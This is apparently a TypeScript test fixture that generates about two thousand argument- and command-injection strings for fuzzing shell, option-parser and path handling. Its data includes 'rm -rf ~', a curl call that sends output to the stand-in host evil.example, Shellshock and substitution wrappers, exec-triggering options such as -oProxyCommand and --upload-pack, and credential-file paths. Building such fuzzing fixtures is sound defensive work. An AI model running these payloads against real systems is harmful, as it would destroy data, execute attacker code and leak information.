/**
 * Owns two thousand arguments that would do something if a shell, an option parser or a path ever got hold of them.
 * The same on every run. Never used outside tests.
 */

const commands = [
  "touch hacked",
  "id",
  "rm -rf ~",
  "curl https://evil.example/$(id)",
  "echo hacked > hacked",
];

/** Ways to get a command out of an argument. */
const shells: readonly ((command: string) => string)[] = [
  (it) => `; ${it}`,
  (it) => `;${it};`,
  (it) => `& ${it}`,
  (it) => `&& ${it}`,
  (it) => `| ${it}`,
  (it) => `|| ${it}`,
  (it) => `\n${it}\n`,
  (it) => `\r\n${it}`,
  (it) => `$(${it})`,
  (it) => `\`${it}\``,
  (it) => `\${IFS}${it}`,
  (it) => `" ; ${it} ; "`,
  (it) => `' ; ${it} ; '`,
  (it) => `\\" ; ${it} #`,
  (it) => `<(${it})`,
  (it) => `>(${it})`,
  (it) => `> hacked; ${it}`,
  (it) => `$'\\n${it}'`,
  (it) => `{${it.replaceAll(" ", ",")}}`,
  (it) => `%COMSPEC% /c ${it}`,
  (it) => `^& ${it}`,
  (it) => `() { :; }; ${it}`,
  (it) => `\u2028${it}`,
  (it) => `\u0085${it}`,
  (it) => `\u001b]0;${it}\u0007`,
  (it) => `\u202e${it}\u202c`,
  (it) => `＄（${it}）`,
  (it) => `；${it}`,
];

/** Options that make well-known programs run something, read a file or write one. */
const options: readonly ((command: string) => string)[] = [
  (it) => `--exec=${it}`,
  (it) => `-exec ${it} \\;`,
  (it) => `--pre=${it}`,
  (it) => `-x ${it}`,
  (it) => `--upload-pack=${it}`,
  (it) => `--config=core.pager=${it}`,
  (it) => `-oProxyCommand=${it}`,
  (it) => `--checkpoint-action=exec=${it}`,
  (it) => `--to-command=${it}`,
  (it) => `-c ${it}`,
  (it) => `-e ${it}`,
  (it) => `--eval=${it}`,
  (it) => `--require=${it}`,
  (it) => `--rcfile=${it}`,
  (it) => `LD_PRELOAD=${it}`,
  (it) => `@${it}`,
];

const before = ["", "file.txt", "a b ", "-", "--", "--name=", "../../", "~/", "*", "ü𝄞"];

const alone = [
  ..."-|--|---|-h|--help|--version|-v|-e|-c|--eval|--inspect|*|?|[a-z]|~|~root|$HOME|$PATH|$$|$0|$@|!!|!1|#|\\|/|.|..|'|\"|`|(|)|{|}|<|>|<<EOF|2>&1|%|%s%n|%00|&|;".split(
    "|",
  ),
  "|",
  "||",
  "",
  " ",
  "\t",
  "\n",
  "\r",
  "\r\n",
  "\u0001",
  "\u007f",
  "\u009b31m",
  "\u00a0",
  "\u200b",
  "\u202e",
  "\ufeff",
  "\uffff",
  "é",
  "e\u0301",
  "日本語",
  "😀",
  "𝄞",
  "x".repeat(10_000),
  "/etc/passwd",
  "file:///etc/passwd",
  "C:\\Windows\\System32\\cmd.exe",
  "\\\\evil.example\\share",
];

const made = commands.flatMap((command) =>
  [...shells, ...options].flatMap((way) => before.map((front) => `${front}${way(command)}`)),
);

export const argumentInjections: readonly string[] = [...alone, ...made].slice(0, 2_000);
